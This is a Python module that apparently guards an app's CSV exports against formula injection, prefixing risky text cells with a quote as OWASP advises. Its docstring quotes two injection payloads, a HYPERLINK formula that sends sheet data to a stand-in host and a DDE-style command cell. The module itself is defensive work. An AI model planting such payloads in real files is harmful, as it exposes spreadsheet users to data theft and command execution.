"""Cells of every CSV the app writes: text can never be read back as a spreadsheet formula.

A CSV export is opened in Excel, LibreOffice or Google Sheets, which evaluate a cell that
starts with ``=``, ``+``, ``-`` or ``@`` (and one that starts with a tab or a carriage return
before such a character) as a formula. Run names are the user's own text or come from an
imported file, so ``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` would send the sheet's
cells to another site and ``+cmd|' /C calc'!A0`` would ask to start a program (CSV or formula
injection). OWASP's advice, followed here: write such a text cell with a leading ``'``, which
spreadsheets show as text and do not display; leave numbers as numbers (a negative number is
written ``-0.5`` and read back as the number it is, not as text).

The CSV writers: ``views.comparison.rows_to_csv`` (the final-metrics table, with run names)
uses ``write_rows``. ``views.training_export.csv_chunks`` writes numbers only under constant
headings (``tests/test_csv_safety.py`` checks it), so it formats its millions of cells itself.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet evaluate a text cell (OWASP, CSV Injection)."""


def cell(value: Any) -> Any:
    """``value`` as a CSV cell: a number as is, ``None`` as empty, text neutralised.

    >>> cell('=1+1'), cell(-2.5), cell(None), cell('run A')
    ("'=1+1", -2.5, '', 'run A')
    """
    if value is None:
        return ""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def write_rows(rows: Iterable[Sequence[Any]]) -> str:
    """The rows (the first one the headings) as CSV text, every cell through ``cell``."""
    buf = io.StringIO()
    # RFC 4180's CRLF: the writer quotes a cell holding any character of the line terminator,
    # so with "\n" alone a name like "x\r=1+1" went out unquoted, and a spreadsheet splits
    # it at the bare "\r" into a row whose first cell is the formula "=1+1".
    writer = csv.writer(buf, lineterminator="\r\n")
    for row in rows:
        writer.writerow([cell(v) for v in row])
    return buf.getvalue()
